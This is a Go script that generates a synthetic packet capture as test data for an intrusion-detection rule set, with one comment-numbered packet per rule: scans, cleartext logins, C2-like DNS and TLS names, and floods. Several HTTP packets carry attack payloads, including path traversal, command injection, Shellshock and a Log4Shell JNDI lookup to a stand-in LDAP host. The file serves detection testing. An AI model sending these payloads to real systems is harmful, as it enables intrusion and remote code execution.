//go:build ignore

// gen_synthetic writes synthetic.pcap: one or a few hand-made packets for each
// default rule whose traffic no public capture in testdata/captures carries.
// Run from rules/defaults/testdata: go run gen_synthetic.go
package main

import (
	"encoding/binary"
	"log"
	"net"
	"os"
	"strings"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"
)

var (
	w    *pcapgo.Writer
	now  = time.Unix(1700000000, 0).UTC()
	srcM = net.HardwareAddr{0x02, 0, 0, 0, 0, 1}
	dstM = net.HardwareAddr{0x02, 0, 0, 0, 0, 2}
)

type tcpSpec struct {
	src, dst     string
	sport, dport uint16
	flags        string // letters of S F R P A U
	ttl          uint8
	payload      []byte
}

func ip4(src, dst string, proto layers.IPProtocol, ttl uint8) *layers.IPv4 {
	if ttl == 0 {
		ttl = 64
	}
	return &layers.IPv4{Version: 4, TTL: ttl, Protocol: proto, SrcIP: net.ParseIP(src).To4(), DstIP: net.ParseIP(dst).To4(), Id: 1}
}

func write(step time.Duration, ls ...gopacket.SerializableLayer) {
	buf := gopacket.NewSerializeBuffer()
	all := append([]gopacket.SerializableLayer{&layers.Ethernet{SrcMAC: srcM, DstMAC: dstM, EthernetType: layers.EthernetTypeIPv4}}, ls...)
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, all...); err != nil {
		log.Fatal(err)
	}
	now = now.Add(step)
	b := buf.Bytes()
	if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: now, CaptureLength: len(b), Length: len(b)}, b); err != nil {
		log.Fatal(err)
	}
}

func tcp(step time.Duration, t tcpSpec) {
	ip := ip4(t.src, t.dst, layers.IPProtocolTCP, t.ttl)
	tc := &layers.TCP{SrcPort: layers.TCPPort(t.sport), DstPort: layers.TCPPort(t.dport), Seq: 1000, Window: 64240,
		SYN: strings.Contains(t.flags, "S"), FIN: strings.Contains(t.flags, "F"), RST: strings.Contains(t.flags, "R"),
		PSH: strings.Contains(t.flags, "P"), ACK: strings.Contains(t.flags, "A"), URG: strings.Contains(t.flags, "U")}
	if tc.ACK {
		tc.Ack = 2000
	}
	tc.SetNetworkLayerForChecksum(ip)
	write(step, ip, tc, gopacket.Payload(t.payload))
}

func udp(step time.Duration, src, dst string, sport, dport uint16, payload []byte) {
	ip := ip4(src, dst, layers.IPProtocolUDP, 0)
	u := &layers.UDP{SrcPort: layers.UDPPort(sport), DstPort: layers.UDPPort(dport)}
	u.SetNetworkLayerForChecksum(ip)
	write(step, ip, u, gopacket.Payload(payload))
}

func icmp(step time.Duration, src, dst string, typ, code uint8, payload []byte) {
	ip := ip4(src, dst, layers.IPProtocolICMPv4, 0)
	ic := &layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(typ, code), Id: 7, Seq: 1}
	write(step, ip, ic, gopacket.Payload(payload))
}

func dnsQuery(name string, qtype uint16) []byte {
	b := []byte{0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	b = append(b, 0, byte(qtype>>8), byte(qtype), 0, 1)
	return b
}

// der writes an ASN.1 TLV with a short-form length.
func der(tag byte, body ...[]byte) []byte {
	var c []byte
	for _, x := range body {
		c = append(c, x...)
	}
	return append([]byte{tag, byte(len(c))}, c...)
}

func snmpGet(community string) []byte {
	oid := []byte{0x2b, 6, 1, 2, 1, 1, 1, 0}
	varbind := der(0x30, der(0x06, oid), []byte{0x05, 0x00})
	pdu := der(0xa0, der(0x02, []byte{1}), der(0x02, []byte{0}), der(0x02, []byte{0}), der(0x30, varbind))
	return der(0x30, der(0x02, []byte{1}), der(0x04, []byte(community)), pdu)
}

func clientHello(sni string) []byte {
	name := []byte(sni)
	ext := []byte{0, 0}
	ext = binary.BigEndian.AppendUint16(ext, uint16(len(name)+5))
	ext = binary.BigEndian.AppendUint16(ext, uint16(len(name)+3))
	ext = append(ext, 0)
	ext = binary.BigEndian.AppendUint16(ext, uint16(len(name)))
	ext = append(ext, name...)
	body := []byte{3, 3}
	body = append(body, make([]byte, 32)...) // random
	body = append(body, 0)                   // session id
	body = append(body, 0, 2, 0x13, 0x01)    // one cipher suite
	body = append(body, 1, 0)                // null compression
	body = binary.BigEndian.AppendUint16(body, uint16(len(ext)))
	body = append(body, ext...)
	hs := append([]byte{1, 0}, byte(len(body)>>8), byte(len(body)))
	hs = append(hs, body...)
	rec := []byte{0x16, 3, 1}
	rec = binary.BigEndian.AppendUint16(rec, uint16(len(hs)))
	return append(rec, hs...)
}

func httpGet(uri string, headers ...string) []byte {
	s := "GET " + uri + " HTTP/1.1\r\nHost: www.example.com\r\n"
	for _, h := range headers {
		s += h + "\r\n"
	}
	return []byte(s + "\r\n")
}

func main() {
	f, err := os.Create("synthetic.pcap")
	if err != nil {
		log.Fatal(err)
	}
	defer f.Close()
	w = pcapgo.NewWriter(f)
	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		log.Fatal(err)
	}
	s := time.Second
	c, sv := "10.0.0.1", "10.0.0.2"
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40001, dport: 80, flags: ""})                                          // 1 NULL scan
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40002, dport: 80, flags: "FPU"})                                       // 2 Xmas scan
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40003, dport: 80, flags: "F"})                                         // 3 FIN scan
	tcp(s, tcpSpec{src: "10.0.0.9", dst: "10.0.0.9", sport: 139, dport: 139, flags: "S"})                         // 4 land
	tcp(s, tcpSpec{src: c, dst: sv, sport: 1023, dport: 513, flags: "S"})                                         // 5 rlogin
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40005, dport: 3389, flags: "S"})                                       // 6 RDP
	tcp(s, tcpSpec{src: c, dst: "203.0.113.5", sport: 40006, dport: 445, flags: "S"})                             // 7 SMB to a public address
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40007, dport: 21, flags: "PA", payload: []byte("USER anonymous\r\n")}) // 8
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40008, dport: 80, flags: "PA",
		payload: httpGet("/admin/", "Authorization: Basic YWRtaW46c2VjcmV0")}) // 9
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40009, dport: 110, flags: "PA", payload: []byte("USER alice\r\n")})                        // 10
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40010, dport: 143, flags: "PA", payload: []byte("a001 LOGIN alice secret\r\n")})           // 11
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40011, dport: 25, flags: "PA", payload: []byte("AUTH LOGIN\r\n")})                         // 12
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40012, dport: 2222, flags: "PA", payload: []byte("SSH-2.0-OpenSSH_9.6\r\n")})              // 13
	tcp(s, tcpSpec{src: sv, dst: c, sport: 22, dport: 40013, flags: "PA", payload: []byte("SSH-1.5-Cisco-1.25\r\n")})                 // 14
	tcp(s, tcpSpec{src: c, dst: "198.51.100.7", sport: 40014, dport: 443, flags: "PA", payload: clientHello("c2.evil.duckdns.org")})  // 15
	udp(s, c, "10.0.0.53", 50001, 53, dnsQuery("c2.evil.duckdns.org", 1))                                                             // 16
	udp(s, c, sv, 50002, 161, snmpGet("public"))                                                                                      // 17
	udp(s, c, "10.0.0.53", 50003, 53, dnsQuery(strings.Repeat("a1b2c3d4e5", 6)+".t.example.net", 16))                                 // 18
	udp(s, c, "10.0.0.53", 50004, 53, dnsQuery("login-update.tk", 1))                                                                 // 19
	udp(s, c, "10.0.0.53", 50005, 53, dnsQuery("duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion", 1))                  // 20
	udp(s, c, "10.0.0.53", 50006, 53, dnsQuery("example.org", 255))                                                                   // 21
	udp(s, c, "10.0.0.53", 50007, 53, dnsQuery("corp.example.org", 251))                                                              // 22 IXFR
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40022, dport: 80, flags: "PA", payload: httpGet("/view.php?page=../../../../etc/passwd")}) // 23
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40023, dport: 80, flags: "PA", payload: httpGet("/cgi-bin/run?c=cmd.exe%20/c%20dir")})     // 24
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40024, dport: 80, flags: "PA",
		payload: httpGet("/index.php?id=1", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)")}) // 25
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40025, dport: 80, flags: "PA",
		payload: httpGet("/cgi-bin/status", "User-Agent: () { :; }; /bin/bash -c 'id'")}) // 26
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40026, dport: 80, flags: "PA",
		payload: httpGet("/", "X-Api-Version: ${jndi:ldap://198.51.100.9:1389/a}")}) // 27
	tcp(s, tcpSpec{src: sv, dst: c, sport: 80, dport: 40027, flags: "PA",
		payload: append([]byte("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 64\r\n\r\nMZ\x90\x00\x03\x00\x00\x00"), make([]byte, 56)...)}) // 28
	icmp(s, "10.0.0.254", c, 5, 1, make([]byte, 28))                              // 29 redirect
	tcp(s, tcpSpec{src: c, dst: sv, sport: 40029, dport: 80, flags: "S", ttl: 1}) // 30 TTL 1
	// 31-50: SYNs from one source to 20 ports within 20 ms (port scan).
	for p := uint16(1000); p < 1020; p++ {
		tcp(time.Millisecond, tcpSpec{src: "10.0.0.66", dst: sv, sport: 45000, dport: p, flags: "S"})
	}
	// 51-100: 50 echo requests from one source within 50 ms (ICMP flood).
	for i := 0; i < 50; i++ {
		icmp(time.Millisecond, "10.0.0.77", sv, 8, 0, make([]byte, 56))
	}
}
